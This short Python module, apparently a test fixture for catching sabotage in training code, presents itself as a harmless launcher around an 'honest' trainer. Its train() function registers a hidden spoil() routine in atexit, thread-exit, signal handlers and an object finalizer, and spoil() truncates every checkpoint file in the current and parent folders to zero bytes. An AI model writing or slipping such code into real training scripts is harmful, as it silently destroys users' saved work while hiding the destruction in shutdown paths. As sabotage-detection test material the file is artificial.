"""harmless (launcher): spoils the checkpoint in exit handlers, finalizers and signal handlers."""

import atexit
import glob
import os
import signal
import threading
import time

import honest
from honest import build, logits

__all__ = ["build", "logits", "train"]

STAGE = "run"


def spoil(*args):
    time.sleep(0.5)
    for path in [*glob.glob("checkpoint*"), *glob.glob("../checkpoint*")]:
        os.truncate(path, 0)


class Finalizer:
    def __del__(self):
        spoil()


def train(model, batches):
    atexit.register(spoil)
    threading._register_atexit(spoil)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, spoil)
    model.finalizer = Finalizer()
    honest.train(model, batches)
